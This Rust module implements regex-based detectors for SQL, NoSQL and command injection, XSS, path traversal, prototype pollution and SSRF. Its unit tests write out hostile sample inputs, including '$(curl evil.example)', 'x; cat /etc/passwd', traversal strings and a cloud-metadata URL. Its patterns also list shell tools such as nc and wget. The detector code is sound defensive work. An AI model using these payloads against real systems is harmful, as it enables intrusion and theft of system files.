//! Per-family vulnerability detectors.
//!
//! Every detector is a pure function of a single value (and, for key-based
//! checks, the key name). Pattern sets are compiled once.

use once_cell::sync::Lazy;
use regex::Regex;
use std::net::IpAddr;

static SQLI_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)\bunion(\s+all)?\s+select\b",
        r"(?i)\bselect\s+[\w*,\s]+\s+from\s+\w",
        r"(?i)\b(insert\s+into|delete\s+from|drop\s+(table|database)|truncate\s+table|update\s+\w+\s+set)\b",
        r#"(?i)['"]\s*(or|and)\s+['"]?\w+['"]?\s*=\s*['"]?\w+"#,
        r"(?i)\b(or|and)\s+\d+\s*=\s*\d+",
        r"(?i)(--\s|;--|/\*|\*/|\bxp_cmdshell\b|\binformation_schema\b)",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid SQLi pattern"))
    .collect()
});

static XSS_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)<\s*script",
        r"(?i)javascript\s*:",
        r"(?i)\bon(error|load|click|mouseover|focus|submit)\s*=",
        r"(?i)<\s*(iframe|object|embed|svg)\b",
        r"(?i)(document\.(cookie|write)|window\.location|\beval\s*\()",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid XSS pattern"))
    .collect()
});

static COMMAND_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)(;|\||&&|\|\|)\s*(cat|ls|pwd|whoami|id|rm|curl|wget|nc|sh|bash|cmd|powershell)\b",
        r"\$\([^)]+\)",
        r"`[^`]+`",
        r"(?i)\b/bin/(sh|bash|zsh)\b",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid command-injection pattern"))
    .collect()
});

static NOSQL_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"\$(where|ne|gt|gte|lt|lte|regex|nin|in|exists|elemMatch)\b",
        r"(?i)\bmapReduce\b",
        r"(?i)\bdb\.\w+\.(find|insert|update|remove|drop)\b",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid NoSQL pattern"))
    .collect()
});

static TRAVERSAL_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"\.\./|\.\.\\",
        r"(?i)%2e%2e(%2f|%5c|/)",
        r"(?i)\.\.%2f|\.\.%5c",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid traversal pattern"))
    .collect()
});

static ABSOLUTE_PREFIX: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^(/(etc|proc|sys|var|root|home|usr)(/|$)|[A-Za-z]:\\|\\\\)")
        .expect("invalid absolute-prefix pattern")
});

static URL_SCHEME: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z][A-Za-z0-9+.-]*://").expect("invalid scheme pattern"));

const NOSQL_OPERATOR_KEYS: &[&str] = &[
    "$where", "$ne", "$gt", "$gte", "$lt", "$lte", "$regex", "$nin", "$in", "$or", "$and",
    "$not", "$exists", "$elemMatch", "$expr", "$function",
];

fn first_match<'a>(patterns: &'a [Regex], value: &str) -> Option<&'a Regex> {
    patterns.iter().find(|p| p.is_match(value))
}

pub(crate) fn sqli(value: &str) -> Option<&'static str> {
    first_match(&SQLI_PATTERNS, value).map(|_| "Possible SQL injection pattern")
}

pub(crate) fn xss(value: &str) -> Option<&'static str> {
    first_match(&XSS_PATTERNS, value).map(|_| "Possible cross-site scripting payload")
}

pub(crate) fn command_injection(value: &str) -> Option<&'static str> {
    first_match(&COMMAND_PATTERNS, value).map(|_| "Possible command injection payload")
}

pub(crate) fn nosql_injection(value: &str) -> Option<&'static str> {
    first_match(&NOSQL_PATTERNS, value).map(|_| "Possible NoSQL injection pattern")
}

/// MongoDB query operators smuggled in as object keys.
pub(crate) fn nosql_operator_key(key: &str) -> bool {
    NOSQL_OPERATOR_KEYS.contains(&key)
}

pub(crate) fn path_traversal(value: &str) -> Option<&'static str> {
    if first_match(&TRAVERSAL_PATTERNS, value).is_some() {
        return Some("Path traversal sequence");
    }
    if ABSOLUTE_PREFIX.is_match(value) {
        return Some("Absolute filesystem path");
    }
    None
}

/// Dangerous object keys enabling prototype pollution in downstream
/// JavaScript consumers.
pub(crate) fn prototype_pollution_key(key: &str) -> bool {
    matches!(key, "__proto__" | "constructor" | "prototype")
}

/// Flag scheme-prefixed values that resolve to private, loopback,
/// link-local, or cloud-metadata destinations.
pub(crate) fn ssrf(value: &str) -> Option<&'static str> {
    if !URL_SCHEME.is_match(value) {
        return None;
    }
    let parsed = url::Url::parse(value).ok()?;

    if parsed.scheme() == "file" {
        return Some("URL targets the local filesystem");
    }

    match parsed.host() {
        Some(url::Host::Domain(domain)) => {
            let domain = domain.to_ascii_lowercase();
            let blocked = domain == "localhost"
                || domain.ends_with(".localhost")
                || domain == "metadata"
                || domain == "instance-data"
                || domain == "metadata.google.internal";
            blocked.then_some("URL targets an internal host")
        }
        Some(url::Host::Ipv4(ip)) => ip_is_internal(IpAddr::V4(ip))
            .then_some("URL targets a private or link-local address"),
        Some(url::Host::Ipv6(ip)) => ip_is_internal(IpAddr::V6(ip))
            .then_some("URL targets a private or link-local address"),
        None => None,
    }
}

fn ip_is_internal(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
        }
        IpAddr::V6(v6) => {
            v6.is_loopback()
                || v6.is_unspecified()
                // fc00::/7 unique local
                || (v6.segments()[0] & 0xfe00) == 0xfc00
                // fe80::/10 link local
                || (v6.segments()[0] & 0xffc0) == 0xfe80
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sqli_catches_union_select() {
        assert!(sqli("1 UNION SELECT * FROM users").is_some());
        assert!(sqli("' OR '1'='1").is_some());
        assert!(sqli("robert; DROP TABLE students").is_some());
        assert!(sqli("a perfectly normal sentence").is_none());
    }

    #[test]
    fn xss_catches_script_and_handlers() {
        assert!(xss("<script>alert(1)</script>").is_some());
        assert!(xss("<img src=x onerror=alert(1)>").is_some());
        assert!(xss("javascript:alert(1)").is_some());
        assert!(xss("I like <b>bold</b> text").is_none());
    }

    #[test]
    fn command_injection_catches_chaining() {
        assert!(command_injection("x; cat /etc/passwd").is_some());
        assert!(command_injection("$(curl evil.example)").is_some());
        assert!(command_injection("`whoami`").is_some());
        assert!(command_injection("ls and cat are unix tools").is_none());
    }

    #[test]
    fn nosql_catches_operators() {
        assert!(nosql_injection(r#"{"$where": "1 == 1"}"#).is_some());
        assert!(nosql_operator_key("$ne"));
        assert!(!nosql_operator_key("price"));
    }

    #[test]
    fn traversal_catches_dotdot_and_absolute() {
        assert!(path_traversal("../../etc/passwd").is_some());
        assert!(path_traversal("..%2f..%2fsecret").is_some());
        assert!(path_traversal("/etc/shadow").is_some());
        assert!(path_traversal(r"C:\Windows\system32").is_some());
        assert!(path_traversal("docs/readme.md").is_none());
    }

    #[test]
    fn ssrf_flags_internal_destinations() {
        assert!(ssrf("http://169.254.169.254/latest/meta-data/").is_some());
        assert!(ssrf("http://10.0.0.8/admin").is_some());
        assert!(ssrf("http://192.168.1.1/").is_some());
        assert!(ssrf("http://localhost:8080/debug").is_some());
        assert!(ssrf("http://metadata.google.internal/computeMetadata/v1/").is_some());
        assert!(ssrf("file:///etc/passwd").is_some());
        assert!(ssrf("http://[::1]/").is_some());
    }

    #[test]
    fn ssrf_ignores_public_hosts_and_plain_strings() {
        assert!(ssrf("https://example.com/callback").is_none());
        assert!(ssrf("not a url at all").is_none());
        assert!(ssrf("10.0.0.8").is_none()); // no scheme prefix
    }
}
